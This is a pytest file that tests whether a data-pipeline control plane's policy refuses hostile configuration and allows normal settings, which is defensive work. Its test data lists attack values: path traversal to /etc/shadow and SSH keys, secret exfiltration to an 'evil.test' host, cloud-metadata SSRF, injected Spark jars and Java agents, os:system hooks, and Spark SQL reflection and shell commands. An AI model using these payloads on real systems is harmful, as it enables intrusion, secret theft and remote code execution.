"""What a pipeline file may do on a server of the control plane: attacks, and what each option allows."""

from __future__ import annotations

import dataclasses
import ipaddress
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import pytest
import yaml

from tailrace.config import hosts
from tailrace.config.hosts import Address
from tailrace.config.load import parse_pipelines
from tailrace.config.model import PipelineSettings, RouteRule, TransformRule
from tailrace.config.notifications import NotificationSettings, SignalSettings
from tailrace.config.options import OPTIONS
from tailrace.config.sinks import SINKS
from tailrace.config.telemetry import LineageSettings, TelemetrySettings
from tailrace.control import places, policy
from tailrace.control.places import kebab, resolved
from tailrace.control.policy import Policy
from tailrace.errors import ConfigError

#: What names stand for in these tests.
NAMES = {
    "db.example": "10.0.0.1",
    "store.example": "10.0.0.2",
    "meta.db.example": "169.254.169.254",
    "six.db.example": "fe80::1",
    "local.db.example": "127.0.0.1",
}
KAFKA = {"type": "kafka", "bootstrap-servers": "db.example:9092", "topic-prefix": "t"}
REST = {"type": "rest", "uri": "https://db.example/"}


def look_up(name: str) -> Sequence[Address]:
    return [ipaddress.ip_address(NAMES[name])] if name in NAMES else []


POLICY = Policy(hosts=("*.example", "10.0.0.0/8"), look_up=look_up)


def require(data_dir: Path, allowed: Policy = POLICY, **changes: Any) -> None:
    """Ask the policy about a file with other sections, as the control plane does."""
    document: dict[str, Any] = {
        "source": {"url": "mysql://db.example/shop", "user": "u", "password": "${env:TAILRACE_SECRET_P}"},
        "sink": {"type": "delta", "path": "lake"},
        **changes,
    }
    document["source"].setdefault("tables", "shop\\.o")
    document["pipeline"] = {"checkpoint": "checkpoint", **document.get("pipeline", {})}
    text = yaml.safe_dump(document)
    parse_pipelines(text, default_name="shop")
    allowed.require(resolved(text, "shop", data_dir), data_dir)


def source(**changes: Any) -> dict[str, Any]:
    given = {"url": "mysql://db.example/shop", "user": "u", "password": "${env:TAILRACE_SECRET_P}"}
    return {"source": {**given, **{name.replace("_", "-"): value for name, value in changes.items()}}}


def sink(**changes: Any) -> dict[str, Any]:
    given = {} if "type" in changes else {"type": "delta"}
    if changes.get("type", "delta") in ("delta", "iceberg"):
        given["path"] = "lake"
    return {"sink": {**given, **{name.replace("_", "-"): value for name, value in changes.items()}}}


def settings(**changes: Any) -> dict[str, Any]:
    return {"pipeline": {name.replace("_", "-"): value for name, value in changes.items()}}


def spark(**changes: str) -> dict[str, Any]:
    return settings(spark={f"spark.{name.replace('_', '.')}": value for name, value in changes.items()})


def transform(**changes: str) -> dict[str, Any]:
    return {"transform": [{"source-table": ".*", **changes}]}


ATTACKS: dict[str, dict[str, Any]] = {
    # paths
    "absolute": sink(path="/etc/tailrace"),
    "dots": sink(path="lake/../../etc"),
    "dots at the end": sink(path="lake/.."),
    "encoded dots": sink(path="lake/%2e%2e/x"),
    "backslash": sink(path="lake\\..\\x"),
    "home": sink(path="/root/.ssh"),
    "file URL": sink(path="file:///etc"),
    "file URL, one slash": sink(path="file:/etc"),
    "file URL, a host": sink(path="file://localhost/etc"),
    "file URL, dots": sink(path="file:///etc/../root"),
    "file URL, capitals": sink(path="FILE:///etc"),
    "the data directory itself": sink(path="."),
    "another subscription": sink(path="subscriptions/other"),
    "the database": sink(type="duckdb", database="tailrace.db"),
    "the database's log": sink(type="duckdb", database="tailrace.db-wal"),
    "secrets": sink(path="secrets"),
    "above the data directory": sink(path="/"),
    "wild": sink(path="lake/*"),
    "alternatives": sink(path="lake/{a,b}"),
    "S3": sink(path="s3://bucket/lake"),
    "S3A": sink(path="s3a://bucket/lake"),
    "HDFS": sink(path="hdfs://db.example/lake"),
    "checkpoint": settings(checkpoint="/tmp/checkpoint"),
    "notes": {"notifications": {"file": "/root/.bashrc"}},
    "certificate": source(tls_mode="verify-identity", tls_ca="/etc/shadow"),
    "SSH key": source(ssh_tunnel="a@db.example", ssh_key_file="/root/.ssh/id_rsa"),
    "Iceberg's SQLite": sink(
        type="iceberg", path="ice", catalog={"type": "sql", "uri": "sqlite:////etc/x.db"}
    ),
    "Iceberg's warehouse": sink(type="iceberg", path="ice", catalog={"type": "sql", "warehouse": "/etc"}),
    # secrets
    "variable": source(password="${env:HOME}"),
    "the server's own variable": source(password="${env:TAILRACE_LEASE}"),
    "file": source(password="${file:/etc/passwd}"),
    "program for a secret": source(password="${exec:/bin/cat /etc/hostname}"),
    "program in a setting": sink(
        type="kafka",
        bootstrap_servers="db.example:9092",
        topic_prefix="x",
        properties={"sasl.password": "x${exec:/bin/id}"},
    ),
    "relative file": source(password="${file:other}"),
    "file, dots": source(password="${file:secrets/../tailrace.db}"),
    "a subscription's file": source(password="${file:subscriptions/a/pipeline.yaml}"),
    "header": {
        "notifications": {"webhook": "${env:TAILRACE_SECRET_U}", "webhook-headers": {"A": "${env:HOME}"}}
    },
    "Spark's key": settings(spark={"spark.hadoop.fs.s3a.secret.key": "${env:HOME}"}),
    # hosts
    "unknown host": source(url="mysql://evil.test/shop"),
    "metadata": source(url="mysql://169.254.169.254/x"),
    "metadata by name": source(url="mysql://meta.db.example/x"),
    "metadata as a number": source(url="mysql://2852039166/x"),
    "link-local by name": source(url="mysql://six.db.example/x"),
    "loopback": source(url="mysql://127.0.0.1/x"),
    "hostname": {
        "source": {
            "type": "mysql",
            "hostname": "evil.test",
            "user": "u",
            "password": "${env:TAILRACE_SECRET_P}",
        }
    },
    "replica": source(snapshot_url="mysql://evil.test"),
    "SSH": source(ssh_tunnel="a@evil.test"),
    "proxy": source(proxy="socks5://evil.test:1080"),
    "Kafka": sink(**{**KAFKA, "bootstrap-servers": "db.example:9092,evil.test:9092"}),
    "registry": sink(**KAFKA, value_format="avro", schema_registry_url="http://169.254.169.254/"),
    "webhook sink": sink(type="webhook", url="https://evil.test/x", topic_prefix="t"),
    "OpenSearch, second": sink(type="opensearch", url="https://db.example,https://evil.test"),
    "ClickHouse": sink(type="clickhouse", url="http://evil.test:8123"),
    "catalog": sink(type="iceberg", path="ice", catalog={"type": "rest", "uri": "http://169.254.169.254/"}),
    "catalog's host in parameters": sink(
        type="iceberg",
        path="ice",
        catalog={"type": "sql", "uri": "postgresql+pg8000://db.example/x?host=evil.test"},
    ),
    "catalog's endpoint": sink(
        type="iceberg", path="ice", catalog={**REST, "s3.endpoint": "http://169.254.169.254"}
    ),
    "telemetry": {"telemetry": {"endpoint": "http://evil.test:4318"}},
    "lineage": {"lineage": {"url": "http://evil.test"}},
    "notifications' brokers": {"notifications": {"topic": "t", "bootstrap-servers": "evil.test:9092"}},
    "signals' brokers": {"signals": {"topic": "t", "bootstrap-servers": "evil.test:9092"}},
    "a secret sent to a host": {"notifications": {"webhook": "https://evil.test/${env:TAILRACE_SECRET_P}"}},
    "master": settings(master="spark://evil.test:7077"),
    "Kubernetes": settings(master="k8s://https://evil.test"),
    "metrics on all addresses": settings(metrics="0.0.0.0:9404"),
    "S3's endpoint": settings(spark={"spark.hadoop.fs.s3a.endpoint": "http://169.254.169.254"}),
    "S3's endpoint of a bucket": settings(spark={"spark.hadoop.fs.s3a.bucket.b.endpoint": "evil.test"}),
    "S3's proxy": settings(spark={"spark.hadoop.fs.s3a.proxy.host": "evil.test"}),
    # code
    "jars": spark(jars="/tmp/evil.jar"),
    "packages": spark(jars_packages="evil:evil:1"),
    "Java options": spark(driver_extraJavaOptions="-javaagent:/tmp/x.jar"),
    "Java options in memory": settings(spark={"spark.driver.memory": "1g -XX:OnError=sh"}),
    "Python": spark(pyspark_python="/tmp/sh"),
    "listener": spark(extraListeners="evil.Listener"),
    "extension": settings(spark={"spark.sql.extensions": "evil.Extension"}),
    "catalog class": settings(spark={"spark.sql.catalog.x": "evil.Catalog"}),
    "file system": settings(spark={"spark.hadoop.fs.file.impl": "evil.FileSystem"}),
    "credentials provider": settings(spark={"spark.hadoop.fs.s3a.aws.credentials.provider": "evil.Provider"}),
    "on-failure": settings(on_failure="${env:TAILRACE_SECRET_C}"),
    "functions": {"functions": {"f": "os:system"}},
    "notifications.call": {"notifications": {"call": "os:system"}},
    "Kafka's plug-in": sink(**KAFKA, properties={"plugin.library.paths": "/tmp/x.so"}),
    "Kerberos": sink(**KAFKA, properties={"sasl.kerberos.kinit.cmd": "sh -c x"}),
    "Kafka's token": sink(
        **KAFKA, properties={"sasl.oauthbearer.token.endpoint.url": "http://169.254.169.254/"}
    ),
    "Kafka's certificate": sink(**KAFKA, properties={"ssl.ca.location": "/etc/shadow"}),
    "Iceberg's class": sink(type="iceberg", path="ice", catalog={**REST, "py-io-impl": "evil.Io"}),
    "Iceberg's catalog class": sink(type="iceberg", path="ice", catalog={"py-catalog-impl": "evil.Catalog"}),
    # SQL
    "reflect": transform(filter="reflect('java.lang.Runtime', 'getRuntime') IS NOT NULL"),
    "reflect, quoted": transform(projection="`REFLECT`('java.lang.System', 'getenv', 'HOME') AS x"),
    "java_method": transform(projection="java_method('java.lang.System', 'exit') AS x"),
    "a name made of texts": transform(projection="IDENTIFIER('ref' || 'lect')('java.lang.System', 'x') AS x"),
    "a file": transform(projection="*, (SELECT first(value) FROM text.`/etc/passwd`) AS x"),
    "a file, no brackets": transform(projection="* FROM text.`/etc/passwd` --"),
    "a file as a table": transform(projection="*, (TABLE text.`/etc/passwd`) AS x"),
    "a file, other letters": transform(projection="*, (\u017felect 1 from text.`/etc/passwd`) AS x"),
    "a program": transform(projection="TRANSFORM(id) USING 'sh -c id'"),
}


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS.keys())
def test_attack_is_refused(attack: dict[str, Any], tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("TAILRACE_SECRET_U", "https://db.example/hook")
    with pytest.raises(ConfigError) as refused:
        require(tmp_path, **attack)
    assert refused.value.code == "TR-8435"
    assert refused.value.hint
    assert "/etc/shadow" not in str(refused.value.hint)


def test_link_that_leads_elsewhere_is_refused(tmp_path: Path) -> None:
    data = tmp_path / "data"
    data.mkdir()
    (data / "lake").symlink_to("/etc")
    with pytest.raises(ConfigError, match="link") as refused:
        require(data, **sink(path="lake/x"))
    assert refused.value.code == "TR-8435"


def test_webhook_is_refused_by_the_address_in_its_variable(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    given = {"notifications": {"webhook": "${env:TAILRACE_SECRET_U}"}}
    monkeypatch.setenv("TAILRACE_SECRET_U", "https://db.example/hook")
    require(tmp_path, **given)
    monkeypatch.setenv("TAILRACE_SECRET_U", "https://evil.test/very-secret")
    with pytest.raises(ConfigError) as refused:
        require(tmp_path, **given)
    assert "evil" not in str(refused.value)


GOOD: dict[str, dict[str, Any]] = {
    "as it is": {},
    "below the data directory": sink(path="lake/shop.orders_2"),
    "address in a network": source(url="mysql://10.1.2.3:3307/shop"),
    "file of secrets": source(password="${file:secrets/shop}"),
    "Kafka": sink(
        type="kafka",
        bootstrap_servers="db.example:9092,store.example:9092",
        topic_prefix="t",
        properties={"security.protocol": "SASL_SSL", "sasl.mechanism": "PLAIN", "linger.ms": "5"},
    )
    | settings(checkpoint="cp"),
    "Iceberg by REST": sink(
        type="iceberg", path="ice", catalog={**REST, "warehouse": "prod", "token": "${env:TAILRACE_SECRET_T}"}
    ),
    "Spark's memory": settings(spark={"spark.driver.memory": "2g", "spark.sql.shuffle.partitions": "4"}),
    "S3 keys": settings(
        spark={
            "spark.hadoop.fs.s3a.secret.key": "${env:TAILRACE_SECRET_K}",
            "spark.hadoop.fs.s3a.endpoint": "https://store.example",
        }
    ),
    "SQL": transform(
        projection="*, upper(name) AS u, coalesce(a, 'x') AS b", filter="id > 3 AND a IN (1, 2)"
    ),
    "local master": settings(master="local[2]"),
    "metrics on this machine": settings(metrics="127.0.0.1:9404"),
}


@pytest.mark.parametrize("given", GOOD.values(), ids=GOOD.keys())
def test_usual_file_is_allowed(given: dict[str, Any], tmp_path: Path) -> None:
    require(tmp_path, **given)


@pytest.mark.parametrize(
    ("option", "attack"),
    [
        ({"paths": ["/etc/tailrace"]}, "absolute"),
        ({"paths": ["s3://bucket"]}, "S3"),
        ({"paths": ["s3://bucket/lake/"]}, "S3A"),
        ({"hosts": ["*.example", "evil.test"]}, "unknown host"),
        ({"hosts": ["*.example", "127.0.0.0/8"]}, "loopback"),
        ({"hosts": ["*"]}, "master"),
        ({"variables": ["HOME"]}, "variable"),
        ({"secrets": ["/etc"]}, "file"),
        ({"providers": ["exec:/bin/cat *"]}, "program for a secret"),
        ({"spark": ["spark.jars"]}, "jars"),
        ({"functions": ["os:*"]}, "functions"),
        ({"functions": ["os:system"]}, "notifications.call"),
        ({"on_failure": True}, "on-failure"),
    ],
)
def test_each_option_allows_what_it_says(option: dict[str, Any], attack: str, tmp_path: Path) -> None:
    given = dict(ATTACKS[attack])
    if "variables" in option:
        given["sink"] = {"type": "delta", "path": "lake"}
    require(tmp_path, dataclasses.replace(POLICY, **option), **given)


@pytest.mark.parametrize(
    "attack", ["metadata", "metadata by name", "metadata as a number", "link-local by name"]
)
def test_no_option_allows_addresses_of_the_link(attack: str, tmp_path: Path) -> None:
    with pytest.raises(ConfigError, match="no setting allows"):
        require(
            tmp_path,
            dataclasses.replace(POLICY, hosts=["*", "169.254.169.254", "fe80::1"]),
            **ATTACKS[attack],
        )


@pytest.mark.parametrize(
    ("path", "allowed"),
    [("s3://bucket/lake", True), ("s3://bucket-2/lake", False), ("s3://evil@bucket/lake", False)],
)
def test_stores_are_allowed_by_whole_names(path: str, allowed: bool, tmp_path: Path) -> None:
    asked = dataclasses.replace(POLICY, paths=["s3://bucket"])
    if allowed:
        require(tmp_path, asked, **sink(path=path))
    else:
        with pytest.raises(ConfigError):
            require(tmp_path, asked, **sink(path=path))


@pytest.mark.parametrize(
    ("host", "allowed"),
    [
        ("::ffff:169.254.169.254", False),
        ("64:ff9b::a9fe:a9fe", False),
        ("2002:a9fe:a9fe::1", False),
        ("0.0.0.0", False),
        ("::", False),
        ("0xa9.254.169.254", False),
        ("fd00:ec2::254", False),
        ("10.1.1.1", True),
        ("::1", True),
    ],
)
def test_addresses_are_seen_through_their_forms(host: str, allowed: bool) -> None:
    assert (hosts.problem(host, ["*"], look_up) is None) is allowed


#: Settings that name neither a file nor a host and run nothing. A new one belongs there, or to the policy.
HARMLESS = Path(__file__).with_name("harmless_settings.txt")


def test_every_setting_is_known_to_the_policy_or_harmless() -> None:
    harmless = set(HARMLESS.read_text().split())
    special = {
        *("pipeline.spark", "pipeline.master", "pipeline.metrics", "pipeline.on-failure"),
        *("notifications.webhook", "notifications.call", "sink.catalog", "sink.properties"),
        *("notifications.properties", "signals.properties", "transform.projection", "transform.filter"),
        "sink.database",
    }
    looked_at = special | {
        f"{section}.{name}"
        for known in (places._PATHS, policy._URLS, policy._HOSTS)
        for section, names in known.items()
        for name in names
    }
    found = {f"source.{kebab(option.name)}" for option in OPTIONS}
    for section, classes in (
        ("sink", SINKS.values()),
        ("pipeline", [PipelineSettings]),
        ("transform", [TransformRule]),
        ("route", [RouteRule]),
        ("notifications", [NotificationSettings]),
        ("signals", [SignalSettings]),
        ("telemetry", [TelemetrySettings]),
        ("lineage", [LineageSettings]),
    ):
        for each in classes:
            found |= {f"{section}.{kebab(field.name)}" for field in dataclasses.fields(each)}
    assert found - looked_at - harmless == set()
    assert harmless & looked_at == set()
    assert harmless - found == set()
